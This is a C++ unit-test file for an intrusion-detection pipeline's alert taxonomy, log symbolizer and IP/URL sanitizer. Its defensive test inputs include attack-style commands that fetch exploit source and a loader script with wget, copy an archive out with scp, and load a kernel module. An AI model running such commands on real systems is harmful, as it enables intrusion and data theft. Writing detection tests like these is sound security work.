// Alert taxonomy, records, symbolization, and sanitization — the paper's
// pre-processing layer (Section II-A).

#include <gtest/gtest.h>

#include "alerts/sanitizer.hpp"
#include "alerts/symbolizer.hpp"
#include "alerts/taxonomy.hpp"
#include "symbolizer_cases.hpp"

namespace at::alerts {
namespace {

TEST(Taxonomy, Exactly19CriticalTypes) {
  // Insight 4: "The entire dataset has 19 such unique critical alerts."
  EXPECT_EQ(critical_types().size(), kNumCriticalTypes);
  EXPECT_EQ(kNumCriticalTypes, 19u);
  std::size_t count = 0;
  for (const auto& entry : all_alert_info()) {
    if (entry.critical) ++count;
  }
  EXPECT_EQ(count, 19u);
}

TEST(Taxonomy, CriticalImpliesCriticalSeverityAndCompromisedStage) {
  for (const auto& entry : all_alert_info()) {
    if (!entry.critical) continue;
    EXPECT_EQ(entry.severity, Severity::kCritical) << entry.symbol;
    EXPECT_EQ(entry.typical_stage, AttackStage::kCompromised) << entry.symbol;
  }
}

TEST(Taxonomy, NonCriticalNeverCriticalSeverity) {
  for (const auto& entry : all_alert_info()) {
    if (entry.critical) continue;
    EXPECT_NE(entry.severity, Severity::kCritical) << entry.symbol;
  }
}

TEST(Taxonomy, TableIsSelfIndexing) {
  for (std::size_t i = 0; i < kNumAlertTypes; ++i) {
    const auto type = static_cast<AlertType>(i);
    EXPECT_EQ(info(type).type, type);
  }
}

TEST(Taxonomy, SymbolsAreUniqueAndPrefixed) {
  std::set<std::string_view> seen;
  for (const auto& entry : all_alert_info()) {
    EXPECT_TRUE(entry.symbol.starts_with("alert_")) << entry.symbol;
    EXPECT_TRUE(seen.insert(entry.symbol).second) << "duplicate " << entry.symbol;
  }
}

TEST(Taxonomy, SymbolRoundTrip) {
  for (const auto& entry : all_alert_info()) {
    const auto back = from_symbol(entry.symbol);
    ASSERT_TRUE(back.has_value());
    EXPECT_EQ(*back, entry.type);
  }
  EXPECT_FALSE(from_symbol("alert_nonexistent").has_value());
}

TEST(Taxonomy, EmissionWeightsAreProbabilities) {
  for (const auto& entry : all_alert_info()) {
    EXPECT_GE(entry.p_in_attack, 0.0);
    EXPECT_LE(entry.p_in_attack, 1.0);
    EXPECT_GE(entry.p_in_benign, 0.0);
    EXPECT_LE(entry.p_in_benign, 1.0);
  }
}

TEST(Taxonomy, BenignCategoryFavorsBenignOccurrence) {
  for (const auto& entry : all_alert_info()) {
    if (entry.category == Category::kBenign) {
      EXPECT_GT(entry.p_in_benign, entry.p_in_attack) << entry.symbol;
    }
  }
}

TEST(AlertRecord, MetadataAndRendering) {
  Alert alert;
  alert.ts = util::to_sim_time(util::CivilDateTime{{2024, 10, 30}, 3, 44, 0});
  alert.type = AlertType::kDownloadSensitive;
  alert.host = "pg-3";
  alert.src = net::Ipv4(194, 145, 7, 7);
  alert.add_meta("url", "194.145.xxx.yyy/sys.x86_64");
  EXPECT_EQ(alert.symbol_name(), "alert_download_sensitive");
  EXPECT_FALSE(alert.critical());
  ASSERT_NE(alert.find_meta("url"), nullptr);
  EXPECT_EQ(alert.find_meta("missing"), nullptr);
  const auto text = alert.str();
  EXPECT_NE(text.find("2024-10-30 03:44:00"), std::string::npos);
  EXPECT_NE(text.find("194.145.xxx.yyy"), std::string::npos);  // anonymized
  EXPECT_EQ(text.find("194.145.7.7"), std::string::npos);      // raw never shown
}

TEST(AlertRecord, TimelineSortAndTypeSequence) {
  std::vector<Alert> alerts(3);
  alerts[0].ts = 30;
  alerts[0].type = AlertType::kLogTampering;
  alerts[1].ts = 10;
  alerts[1].type = AlertType::kDownloadSensitive;
  alerts[2].ts = 20;
  alerts[2].type = AlertType::kCompileSource;
  sort_timeline(alerts);
  EXPECT_EQ(type_sequence(alerts),
            (std::vector<AlertType>{AlertType::kDownloadSensitive, AlertType::kCompileSource,
                                    AlertType::kLogTampering}));
}

TEST(BufferSinkTest, CollectsAndClears) {
  BufferSink sink;
  Alert alert;
  sink.on_alert(alert);
  sink.on_alert(alert);
  EXPECT_EQ(sink.alerts().size(), 2u);
  const auto taken = sink.take();
  EXPECT_EQ(taken.size(), 2u);
  EXPECT_TRUE(sink.alerts().empty());
}

// --- Symbolizer: the paper's flagship wget example and friends ---

TEST(SymbolizerTest, PaperWgetExample) {
  // "23:15:22 [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK") [7036]"
  // must become alert_download_sensitive with host and source-ip metadata.
  Symbolizer symbolizer;
  const auto result = symbolizer.symbolize(
      R"(23:15:22 [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK") [7036])");
  ASSERT_TRUE(result.has_value());
  EXPECT_EQ(result->alert.type, AlertType::kDownloadSensitive);
  EXPECT_EQ(result->alert.host, "internal-host");
  ASSERT_NE(result->alert.find_meta("source-ip"), nullptr);
  EXPECT_EQ(*result->alert.find_meta("source-ip"), "64.215.xxx.yyy");
  EXPECT_EQ(result->alert.ts, 23 * util::kHour + 15 * util::kMinute + 22);
}

class SymbolizerPatterns : public ::testing::TestWithParam<SymbolCase> {};

TEST_P(SymbolizerPatterns, MapsToExpectedType) {
  Symbolizer symbolizer;
  const auto result = symbolizer.symbolize(GetParam().line);
  ASSERT_TRUE(result.has_value()) << GetParam().line;
  EXPECT_EQ(result->alert.type, GetParam().expected) << GetParam().line;
}

INSTANTIATE_TEST_SUITE_P(KnownPatterns, SymbolizerPatterns, ::testing::ValuesIn(kSymbolCases));

TEST(SymbolizerTest, UnknownLinesReturnNothing) {
  Symbolizer symbolizer;
  EXPECT_FALSE(symbolizer.symbolize("ls -la /home").has_value());
  EXPECT_FALSE(symbolizer.symbolize("").has_value());
}

TEST(SymbolizerTest, BatchCountsUnmapped) {
  Symbolizer symbolizer;
  const auto result = symbolizer.symbolize_all(
      {"12:00:00 [h] gcc x.c", "echo hello", "12:00:01 [h] insmod m.ko"});
  EXPECT_EQ(result.alerts.size(), 2u);
  EXPECT_EQ(result.unmapped, 1u);
}

TEST(SymbolizerTest, DayStartAnchorsTimestamps) {
  Symbolizer symbolizer;
  const util::SimTime day = util::to_sim_time(util::CivilDate{2024, 10, 30});
  const auto result = symbolizer.symbolize("01:02:03 [h] gcc x.c", day);
  ASSERT_TRUE(result.has_value());
  EXPECT_EQ(result->alert.ts, day + util::kHour + 2 * util::kMinute + 3);
}

TEST(ParseHelpers, TimeOfDay) {
  EXPECT_EQ(parse_time_of_day("23:15:22 rest"), 23 * 3600 + 15 * 60 + 22);
  EXPECT_FALSE(parse_time_of_day("25:00:00").has_value());
  EXPECT_FALSE(parse_time_of_day("2:00:00x").has_value());
  EXPECT_FALSE(parse_time_of_day("short").has_value());
}

TEST(ParseHelpers, BracketHost) {
  EXPECT_EQ(parse_bracket_host("x [node-7] y"), "node-7");
  EXPECT_FALSE(parse_bracket_host("pid [7036]").has_value());  // numeric = pid
  EXPECT_FALSE(parse_bracket_host("none here").has_value());
  EXPECT_FALSE(parse_bracket_host("[]").has_value());
}

TEST(ParseHelpers, IpLikeToken) {
  EXPECT_EQ(find_ip_like_token("wget 64.215.xxx.yyy/abs.c"), "64.215.xxx.yyy");
  EXPECT_EQ(find_ip_like_token("conn to 1.2.3.4:5432 ok"), "1.2.3.4");
  EXPECT_FALSE(find_ip_like_token("no address").has_value());
}

// --- Sanitizer ---

TEST(SanitizerTest, MasksTrailingOctets) {
  Sanitizer sanitizer;
  EXPECT_EQ(sanitizer.sanitize_line("conn from 194.145.12.13 ok"),
            "conn from 194.145.xxx.yyy ok");
  // Multiple addresses in one line.
  EXPECT_EQ(sanitizer.sanitize_line("1.2.3.4 -> 141.142.9.9"),
            "1.2.xxx.yyy -> 141.142.xxx.yyy");
}

TEST(SanitizerTest, DefangsUrls) {
  Sanitizer sanitizer;
  const auto clean = sanitizer.sanitize_line("wget http://194.145.1.2/ldr.sh");
  EXPECT_NE(clean.find("hXXp://"), std::string::npos);
  EXPECT_EQ(clean.find("http://"), std::string::npos);
  EXPECT_NE(clean.find("194.145.xxx.yyy"), std::string::npos);
}

TEST(SanitizerTest, LeavesNonAddressesAlone) {
  Sanitizer sanitizer;
  EXPECT_EQ(sanitizer.sanitize_line("version 1.2.3.4567 build"), "version 1.2.3.4567 build");
  EXPECT_EQ(sanitizer.sanitize_line("plain text"), "plain text");
}

TEST(SanitizerTest, PseudonymsAreStable) {
  Sanitizer sanitizer;
  const auto p1 = sanitizer.pseudonym("alice");
  const auto p2 = sanitizer.pseudonym("alice");
  const auto p3 = sanitizer.pseudonym("bob");
  EXPECT_EQ(p1, p2);
  EXPECT_NE(p1, p3);
  EXPECT_TRUE(p1.starts_with("user-"));
  // Idempotent: masking a mask is a no-op.
  EXPECT_EQ(sanitizer.pseudonym(p1), p1);
}

TEST(SanitizerTest, SanitizeAlertMasksUserAndMetadata) {
  Sanitizer sanitizer;
  Alert alert;
  alert.user = "alice";
  alert.add_meta("cmd", "scp data.tar.gz 9.9.9.9:/x");
  sanitizer.sanitize(alert);
  EXPECT_TRUE(alert.user.starts_with("user-"));
  EXPECT_NE(alert.find_meta("cmd")->find("9.9.xxx.yyy"), std::string::npos);
}

}  // namespace
}  // namespace at::alerts
